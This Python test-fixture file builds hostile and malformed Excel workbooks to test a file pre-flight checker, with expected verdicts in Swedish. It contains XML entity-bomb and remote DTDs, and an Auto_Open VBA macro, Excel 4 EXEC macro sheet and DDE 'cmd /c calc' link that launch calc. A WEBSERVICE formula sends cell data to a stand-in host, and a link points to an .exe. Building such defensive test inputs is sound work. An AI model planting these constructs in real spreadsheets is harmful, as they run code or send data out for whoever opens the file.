"""Pre-flight: what a file is and carries besides values, looked at before any parser sees it."""

from __future__ import annotations

import re
import struct
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

from msoffcrypto.format.ooxml import OOXMLFile
from odd_books import Book, Cell, Formula, zipped
from odd_entries import BOOK, IN, Files, Odd

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
BOMB = '<!DOCTYPE a [<!ENTITY b "bbbbbbbb"><!ENTITY c "&b;&b;&b;&b;">]>'
REMOTE = '<!DOCTYPE a SYSTEM "http://192.0.2.1/a.dtd">'


def as_file(name: str):
    return lambda book: {name: book.bytes()}


def part(name: str, content: bytes | str):
    """Add a part that nothing in the book asks for."""

    def make(book: Book) -> None:
        book.parts[name] = content if isinstance(content, bytes) else content.encode()

    return make


def many_parts(book: Book) -> None:
    book.parts |= {f"xl/media/{number}.bin": b"" for number in range(3000)}


def lying_about_its_size(book: Book) -> Files:
    """Say of one part that it is three gigabytes large."""
    content = bytearray(book.bytes())
    at = content.rindex(b"PK\x01\x02")
    content[at + 24 : at + 28] = struct.pack("<L", 3_000_000_000)
    return {BOOK: bytes(content)}


def declared(name: str, declaration: str):
    def make(book: Book) -> None:
        book.flush()
        text = book.text(name)
        book.opened.clear()
        end = text.index("?>") + 2
        book.parts[name] = (text[:end] + declaration + text[end:]).encode()

    return make


def dimension(book: Book) -> None:
    book["Behov"].before = re.sub(r'<dimension ref="[^"]*"/>', '<dimension ref="A1:XFD1048576"/>', book["Behov"].before)


def coloured_far_out(book: Book) -> None:
    book["Behov"].rows[1048576] = {16384: Cell(' s="1"')}


def external_value(book: Book) -> None:
    book.parts |= {
        "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{MAIN}"><externalBook xmlns:r="{OFFICE}" r:id="rId1"/></externalLink>'.encode(),
        "xl/externalLinks/_rels/externalLink1.xml.rels": f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{OFFICE}/externalLinkPath" Target="file:///C:/Chefen/annan.xlsx" TargetMode="External"/></Relationships>'.encode(),
    }
    book.set("Roller!H6", Formula("[1]Blad1!$A$1", "Hämtat ur annan.xlsx"))


def macros(book: Book) -> Files:
    book.replace(
        "[Content_Types].xml",
        ("spreadsheetml.sheet.main+xml", "x"),
        ("application/vnd.openxmlformats-officedocument.x", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
    )
    book.parts["xl/vbaProject.bin"] = b"Sub Auto_Open()\nShell 'calc'\nEnd Sub"
    return {"bok.xlsm": book.bytes()}


def strict(book: Book) -> None:
    book.flush()
    for name, content in book.parts.items():
        if name.endswith((".xml", ".rels")):
            text = content.decode().replace(
                "http://schemas.openxmlformats.org/spreadsheetml/2006/main",
                "http://purl.oclc.org/ooxml/spreadsheetml/main",
            )
            book.parts[name] = text.replace(
                "http://schemas.openxmlformats.org/officeDocument/2006/", "http://purl.oclc.org/ooxml/officeDocument/"
            ).encode()
    book.opened.clear()


def from_1904(book: Book) -> None:
    """Count days as old Macs do; the days are the same."""
    book.flush()
    for name, content in book.parts.items():
        if name.startswith("xl/worksheets/sheet"):
            book.parts[name] = re.sub(
                rb"<v>(4[5-9]\d{3})</v>", lambda found: b"<v>%d</v>" % (int(found[1]) - 1462), content
            )
    book.opened.clear()
    book.replace("xl/workbook.xml", ("<workbookPr ", '<workbookPr date1904="1" '))


def locked(content: bytes, password: str) -> bytes:
    stream = BytesIO()
    OOXMLFile(BytesIO(content)).encrypt(password, stream)
    return stream.getvalue()


def locked_by_label(book: Book) -> Files:
    names = ("\tDRMContent", "DRMEncryptedTransform", "EncryptedPackage")
    streams = b"".join(
        name.encode("utf-16-le").ljust(64, b"\0") + struct.pack("<H", 2 * len(name) + 2) for name in names
    )
    return {BOOK: OLE + bytes(512) + streams}


def label(book: Book) -> None:
    book.parts["docMetadata/LabelInfo.xml"] = (
        b'<clbl:labelList xmlns:clbl="http://schemas.microsoft.com/office/2020/mipLabelMetadata"><clbl:label id="{1}" enabled="1" method="Standard" siteId="{2}" removed="0"/></clbl:labelList>'
    )


def notes(state: str):
    def make(book: Book) -> None:
        book.add_sheet("Anteckningar", state=state).fill("A1", ("Ring Kalle",), ("Budget", 12))

    return make


def hidden_columns(book: Book) -> None:
    book["Roller"].before = book["Roller"].before.replace("<cols>", '<cols><col min="7" max="8" width="9" hidden="1"/>')


def comment(text: str, cell: str = "C5", sheet: str = "Behov"):
    def make(book: Book) -> None:
        book.relate(
            sheet,
            "comments",
            "comments1.xml",
            f'<comments xmlns="{MAIN}"><authors><author>Bo</author></authors><commentList><comment ref="{cell}" authorId="0"><text><t>{text}</t></text></comment></commentList></comments>',
        )

    return make


def thread(book: Book) -> None:
    book.relate(
        "Behov",
        "threadedComment",
        "threadedComments/threadedComment1.xml",
        '<ThreadedComments xmlns="http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments"><threadedComment ref="C6" id="{1}" personId="{2}"><text>Stämmer det?</text></threadedComment></ThreadedComments>',
    )


def web_links(book: Book) -> None:
    book["Behov"].add(
        '<hyperlinks><hyperlink ref="K5" r:id="rIdWeb" tooltip="http://192.0.2.1/"/></hyperlinks>', before="pageMargins"
    )
    rels = "xl/worksheets/_rels/sheet4.xml.rels"
    book.replace(
        rels,
        (
            "</Relationships>",
            f'<Relationship Id="rIdWeb" Type="{OFFICE}/hyperlink" Target="http://192.0.2.1/fil.exe" TargetMode="External"/></Relationships>',
        ),
    )


def encoded(declared: str, encoding: str):
    def make(book: Book) -> None:
        book.flush()
        book.opened.clear()
        for name in (book.where["Behov"], "xl/sharedStrings.xml", "xl/workbook.xml"):
            book.parts[name] = book.text(name).replace('"UTF-8"', f'"{declared}"').encode(encoding, "xmlcharrefreplace")

    return make


def two_ends(book: Book) -> Files:
    """Put another zip's end in the file, as an embedded book does when it is stored unpacked."""
    stream = BytesIO(book.bytes())
    with ZipFile(stream, "a") as made:
        made.writestr("xl/embeddings/bild.bin", zipped({"a": b"a"}))
    return {BOOK: stream.getvalue()}


def twice(name: str):
    """Put a part in the zip once more, with other answers."""

    def make(book: Book) -> Files:

        first = book.bytes()
        book.set("Behov!B5", "Den andra boken")
        book.flush()
        stream = BytesIO(first)
        with ZipFile(stream, "a", ZIP_DEFLATED) as made:
            made.writestr(name, book.parts[name])
        return {BOOK: stream.getvalue()}

    return make


def macro_sheet(book: Book) -> None:
    """Lay a macro sheet where Excel does, listed among the sheets."""
    book.flush()
    book.opened.clear()
    kind = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"
    book.replace("xl/workbook.xml", ("</sheets>", '<sheet name="Makro1" sheetId="99" r:id="rIdM"/></sheets>'))
    book.replace(
        "xl/_rels/workbook.xml.rels",
        (
            "</Relationships>",
            f'<Relationship Id="rIdM" Type="{kind}" Target="macrosheets/sheet1.xml"/></Relationships>',
        ),
    )
    book.parts["xl/macrosheets/sheet1.xml"] = (
        f'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" xmlns="{MAIN}"><sheetData>'
        '<row r="1"><c r="A1"><f>EXEC("calc.exe")</f><v>0</v></c></row></sheetData></xm:macrosheet>'
    ).encode()


def texts_elsewhere(book: Book) -> None:
    book.parts["xl/andra.dat"] = book.parts["xl/sharedStrings.xml"]
    book.parts["xl/sharedStrings.xml"] = b"<sst/>"
    book.replace("xl/_rels/workbook.xml.rels", ('Target="sharedStrings.xml"', 'Target="andra.dat"'))


def sheet_elsewhere(book: Book) -> None:
    """Lay answers of a stranger under the name that the sheet always has."""
    name = book.where["Behov"]
    book.flush()
    book.opened.clear()
    book.parts["xl/b.dat"] = book.parts[name]
    book.parts[name] = (
        book.parts[name].replace(b"</sheetData>", b'<row r="999999"/></sheetData>').replace(b"<v>", b"<v>9")
    )
    target = name.removeprefix("xl/")
    book.replace("xl/_rels/workbook.xml.rels", (f'Target="{target}"', 'Target="b.dat"'))


def two_lists(book: Book) -> Files:
    """Call a part something else in the directory than where it lies."""
    content = bytearray(book.bytes())
    at = content.rindex(b"docProps/custom.xml")
    content[at : at + 8] = b"dockProp"
    return {BOOK: bytes(content)}


def property_changed(book: Book) -> Files:
    """Change a letter in the properties without packing them anew."""
    stream = BytesIO()
    with ZipFile(BytesIO(book.bytes())) as old, ZipFile(stream, "w") as new:
        for name in old.namelist():
            new.writestr(name, old.read(name))
    changed = stream.getvalue().replace(b'name="kommunkod"', b'name="kommunkop"')
    assert changed != stream.getvalue()
    return {BOOK: changed}


def cut(book: Book) -> Files:
    return {BOOK: book.bytes()[:-5000]}


def bits_changed(book: Book) -> Files:
    content = bytearray(book.bytes())
    with ZipFile(BytesIO(bytes(content))) as made:
        start = made.getinfo(book.where["Behov"]).header_offset
    for at in range(start + 200, start + 260):
        content[at] ^= 0xFF
    return {BOOK: bytes(content)}


PREFLIGHT = (
    Odd("Boken heter .pdf fast den är en arbetsbok", as_file("svar.pdf"), status={"svar.pdf": IN}),
    Odd("Boken saknar filändelse", as_file("svar"), status={"svar": IN}),
    Odd("En pdf heter .xlsx", lambda book: {BOOK: b"%PDF-1.7\n"}, ("fel inte-arbetsbok",), counted=False, tells=("en PDF",)),
    Odd("Arkivet i boken har tusentals delar", many_parts, ("fel misstankt",), counted=False),
    Odd("En del av boken säger sig vara tre gigabyte", lying_about_its_size, ("fel for-stor",), counted=False),
    Odd("En del av boken sväller tusenfalt", part("xl/media/bild.bin", bytes(20_000_000)), ("fel misstankt",), counted=False),
    Odd("Texterna har en DTD med entiteter", declared("xl/sharedStrings.xml", BOMB), ("fel misstankt",), counted=False),
    Odd("Ett blad har en DTD som pekar ut på nätet", declared("xl/worksheets/sheet4.xml", REMOTE), ("fel misstankt",), counted=False),
    Odd("Egenskaperna har en DTD", declared("docProps/app.xml", BOMB), ("fel misstankt",), counted=False),
    Odd("Ett tillägg har lämnat ett värde i bladets sista cell", lambda book: book.set("Behov!XFD1048576", "x"), ("fel for-utspridd",), counted=False, tells=("XFD1048576", "Behov")),
    Odd("Någon har färgat cellerna ända ned i hörnet", coloured_far_out),
    Odd("Bladet säger sig vara så stort som det kan bli", dimension),
    Odd("Boken har makron", macros, {"bok.xlsm": ("upplysning makron",)}, {"bok.xlsm": IN}),
    Odd("Boken har ett makroblad från Excel 4", part("xl/macrosheets/sheet1.xml", f'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" xmlns="{MAIN}"><sheetData/></xm:macrosheet>'), ("upplysning makron",)),
    Odd("Boken har ett riktigt makroblad från Excel 4, bland sina blad", macro_sheet, ("upplysning makron",)),
    Odd("Boken har sina texter i en del med ett eget namn", texts_elsewhere),
    Odd("Boken har ett blad i en del med ett eget namn, och ett annat under det vanliga", sheet_elsewhere),
    Odd("Arkivets två förteckningar över boken säger olika", two_lists, ("fel skadad",), counted=False),
    Odd("Egenskaperna har ändrats på vägen", property_changed, ("fel skadad",), counted=False),
    Odd("Ett värde hämtas ur en annan bok", external_value, ("upplysning lank-till-annan-bok", "fråga varde-ur-annan-bok Roller!H6"), rows={"roles R-002": {"authority": "Hämtat ur annan.xlsx"}}, never=("C:/Chefen",)),
    Odd("Boken frågar ett annat program (DDE)", part("xl/externalLinks/externalLink1.xml", f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'), ("fråga dde",)),
    Odd("En cell hämtar sitt värde från webben", lambda book: book.set("Roller!H6", Formula('_xlfn.WEBSERVICE("http://192.0.2.1/?"&A1)', "Från webben")), ("fråga varde-ur-annan-bok Roller!H6",), rows={"roles R-002": {"authority": "Från webben"}}),
    Odd("En cell hämtar sitt värde ur ett annat kalkylark hos Google", lambda book: book.set("Roller!H6", Formula('IFERROR(__xludf.DUMMYFUNCTION("IMPORTRANGE(""https://docs.google.com/x"",""A1"")"),"Hämtat")', "Hämtat")), ("fråga varde-ur-annan-bok Roller!H6",), rows={"roles R-002": {"authority": "Hämtat"}}),
    Odd("Boken har ett inbäddat objekt", part("xl/embeddings/oleObject1.bin", b"MZ\x90"), ("upplysning inbaddat",)),
    Odd("Boken är sparad som Strict Open XML", strict),
    Odd("Boken räknar dagar från 1904", from_1904),
    Odd("Boken har lösenord, och ingen har sagt vilket", lambda book: {BOOK: locked(book.bytes(), "hemligt")}, ("fel krypterad",), counted=False, tells=("lösenord",)),
    Odd("Boken är låst av en känslighetsetikett", locked_by_label, ("fel rattighetsskyddad",), counted=False, tells=("etikett",)),
    Odd("Boken har en känslighetsetikett som inte låser", label),
    Odd("Ett eget blad är dolt", notes("hidden"), ("upplysning dolda-blad Anteckningar!A1", "upplysning extra-blad")),
    Odd("Ett eget blad är mycket dolt", notes("veryHidden"), ("upplysning dolda-blad Anteckningar!A1", "upplysning extra-blad")),
    Odd("Ett av bokens blad är dolt", lambda book: book.state("Roller", "hidden"), ("upplysning dolda-blad Roller!A1",)),
    Odd("En ifylld rad är dold", lambda book: book["Behov"].hide_row(6), ("upplysning dolda-rader Behov!A6",)),
    Odd("Två ifyllda kolumner är dolda", hidden_columns, ("upplysning dolda-kolumner Roller!G4",)),
    Odd("En cell har en kommentar", comment("Ring om det här"), ("upplysning kommentarer Behov!C5",), never=("Ring om det här",)),
    Odd("En cell har en kommentarstråd", thread, ("upplysning kommentarer Behov!C6",), never=("Stämmer det?",)),
    Odd("En cell är en länk till webben", web_links, never=("192.0.2.1",)),
    Odd("Boken är skriven i UTF-16", encoded("UTF-16", "utf-16")),
    Odd("Boken är skriven i en äldre svensk teckenkodning", encoded("ISO-8859-1", "latin-1")),
    Odd("Boken är skriven i en teckenkodning som ingen använder", encoded("UTF-7", "utf-7"), ("fel teckenkodning",), counted=False),
    Odd("Boken är hopsatt så att den kan läsas på två sätt", two_ends, ("upplysning inbaddat",)),
    Odd("Ett blad ligger två gånger i arkivet med olika svar", twice("xl/worksheets/sheet4.xml"), ("fel misstankt",), counted=False),
    Odd("Ett blad ligger två gånger i arkivet med samma innehåll", twice("docProps/app.xml")),
    Odd("Boken är avkapad på vägen", cut, ("fel skadad",), counted=False),
    Odd("Några byte i boken har ändrats på vägen", bits_changed, ("fel skadad",), counted=False),
)  # fmt: skip
